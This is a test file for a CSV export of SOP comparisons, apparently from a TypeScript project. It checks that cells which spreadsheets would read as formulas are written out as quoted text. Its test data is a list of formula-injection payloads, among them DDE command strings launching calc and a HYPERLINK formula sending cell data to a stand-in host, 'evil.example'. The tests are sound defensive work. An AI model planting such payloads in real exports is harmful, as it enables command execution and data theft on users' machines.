import { comparisonCsv } from './comparison-csv';
import type { ComparedSop, MatrixRow, SopComparison } from './compare-sops';

/** A comparison whose cells hold what an SOP author could type into a role, a regulation or a step. */
function comparisonWith(cells: string[][]): SopComparison {
  const matrix: MatrixRow[] = cells.map((pair, i) => ({ section: 'roles', key: `r${i}`, label: pair[0], cells: pair, status: 'differs' }));
  return { referenceDate: '2026-11-23', sops: [{ key: 'metro' }, { key: 'buleleng' }] as ComparedSop[], matrix, versionDiff: null };
}

describe('comparisonCsv: cells a spreadsheet would run', () => {
  it.each([["-2+3+cmd|' /C calc'!A0"], ["=cmd|' /C calc'!A0"], ['+1+1'], ['@SUM(1+9)'], [' =HYPERLINK("http://evil.example/?x="&A1)'], ['\t-1'], ['－2+3']])(
    '%j is written as text behind a quote mark, in the label and in the SOP columns',
    (payload) => {
      const [, row] = comparisonCsv(comparisonWith([[payload, payload]])).split('\r\n');
      const guarded = `"'${payload.replace(/"/g, '""')}"`;
      expect(row).toBe(`roles,${guarded},${guarded},${guarded},differs`);
    },
  );

  it('leaves ordinary cells as they were', () => {
    expect(comparisonCsv(comparisonWith([['Kepala Dinas', '— ']]))).toBe(
      'section,item,metro,buleleng,status\r\nroles,Kepala Dinas,Kepala Dinas,— ,differs\r\n',
    );
  });
});
